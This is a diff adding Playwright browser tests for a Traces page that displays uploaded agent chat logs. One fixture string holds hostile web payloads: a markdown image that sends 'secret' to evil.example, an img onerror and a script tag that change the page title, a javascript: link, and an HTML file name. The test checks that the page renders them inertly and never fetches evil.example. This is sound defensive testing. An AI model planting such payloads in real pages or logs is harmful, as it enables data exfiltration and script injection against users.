@@ -1,0 +1,84 @@
+"""The Traces page in a real browser: open, select by keyboard, read in full, fetch nothing."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+pytestmark = pytest.mark.browser
+
+HOSTILE = (
+    "![t](http://evil.example/p.png?d=secret) <img src=http://evil.example/i.png onerror=\"document.title='owned'\"> "
+    "<script>document.title='owned'</script> [x](javascript:alert(1)) $5 to $7 :red[x] # no heading"
+)
+
+
+def chat_log(text: str) -> bytes:
+    call = {"id": text, "type": "function", "function": {"name": text, "arguments": json.dumps({"q": text})}}
+    messages = [
+        {"role": "system", "content": text},
+        {"role": "user", "content": text},
+        {"role": "assistant", "content": text, "tool_calls": [call], "reasoning_content": text},
+        {"role": "tool", "tool_call_id": text, "content": text},
+        {"role": text, "content": text, "unknown": {"key": text}},
+    ]
+    return json.dumps({"messages": messages, "model": text}).encode()
+
+
+def upload(lab, content: bytes, name: str = "log.json") -> None:
+    lab.page.locator('input[type="file"]').set_input_files(
+        {"name": name, "mimeType": "application/json", "buffer": content}
+    )
+
+
+def test_a_run_is_found_in_the_list_and_a_message_is_selected_by_keyboard(app: str, lab) -> None:
+    lab.open(app)
+    lab.key("g")
+    lab.rows(7)
+    expect(lab.status).to_contain_text("All checks hold.")
+    lab.page.get_by_role("link", name="Open the trace").click()
+    lab.rows(7)
+    expect(lab.page).to_have_url(re.compile("trace=[0-9a-f]{12}"))
+    expect(lab.page.get_by_role("figure", name="Tokens per step")).to_be_visible()
+    lab.select(3)
+    expect(lab.page).to_have_url(re.compile("message=3"))
+    expect(lab.page.get_by_text("Message 3", exact=True)).to_be_visible()
+    expect(lab.page.get_by_test_id("stCode").first).to_contain_text('"a": 2')
+
+
+def test_a_link_to_a_message_opens_there(app: str, lab) -> None:
+    lab.open(app)
+    lab.key("g")
+    lab.rows(7)
+    expect(lab.status).to_contain_text("All checks hold.")
+    run_id = re.search("run=([0-9a-f]{12})", lab.page.url)[1]
+    lab.open(f"{app}/traces?trace={run_id}&message=6")
+    expect(lab.page.get_by_text("Message 6", exact=True)).to_be_visible()
+    lab.page.get_by_role("button", name="All traces").click()
+    expect(lab.page.get_by_text("Select a row to open it.")).to_be_visible()
+    expect(lab.page).not_to_have_url(re.compile("trace="))
+
+
+def test_hostile_text_of_a_file_is_shown_as_it_is_and_fetches_nothing(app: str, lab) -> None:
+    asked: list[str] = []
+    lab.page.on("request", lambda request: asked.append(request.url))
+    lab.open(f"{app}/traces")
+    upload(lab, chat_log(HOSTILE), "<img src=x>.json")
+    lab.rows(5)
+    for row in range(1, 6):
+        lab.select(row)
+        expect(lab.page.get_by_text(f"Message {row}", exact=True)).to_be_visible()
+        expect(lab.page.get_by_test_id("stCode").first).to_contain_text("![t](http://evil.example/p.png?d=secret) <img")
+    expect(lab.page).to_have_title(re.compile("Agent Loop Lab|Traces"))
+    assert [url for url in asked if "evil.example" in url] == []
+    assert lab.page.locator("img[src*='evil']").count() == 0
+
+
+def test_a_file_that_cannot_be_read_is_explained(app: str, lab) -> None:
+    lab.open(f"{app}/traces")
+    upload(lab, b"this is no JSON at all")
+    expect(lab.page.get_by_test_id("stAlert").first).to_be_visible()
+    expect(lab.page.get_by_test_id("stMain")).to_contain_text("log.json")
